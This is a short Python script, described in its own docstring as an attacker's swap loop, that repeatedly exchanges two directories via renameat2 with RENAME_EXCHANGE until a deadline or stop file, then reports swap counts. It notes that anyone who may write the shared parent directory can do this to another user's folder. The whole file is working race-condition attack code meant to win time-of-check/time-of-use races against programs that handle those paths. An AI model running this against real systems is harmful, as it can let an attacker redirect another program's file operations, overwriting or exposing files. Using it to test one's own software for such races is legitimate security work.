"""An attacker's swap loop: exchange directories A and B with renameat2(RENAME_EXCHANGE), over and
over, until SECONDS have passed or the file STOP exists; then print how many swaps it tried and how
many succeeded.

Usage: swap_dirs.py A B STOP SECONDS. Whoever may write the directory holding A and B may do this to
a folder of someone else's in it (same parent: no write permission on the folder itself is needed)."""
import ctypes
import os
import sys
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
a, b, stop = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2]), sys.argv[3]
deadline = time.monotonic() + float(sys.argv[4])
print("swapping", flush=True)
tried = swaps = 0
while time.monotonic() < deadline and not os.path.exists(stop):
    for _ in range(500):
        swaps += libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0
    tried += 500
print(tried, swaps, flush=True)
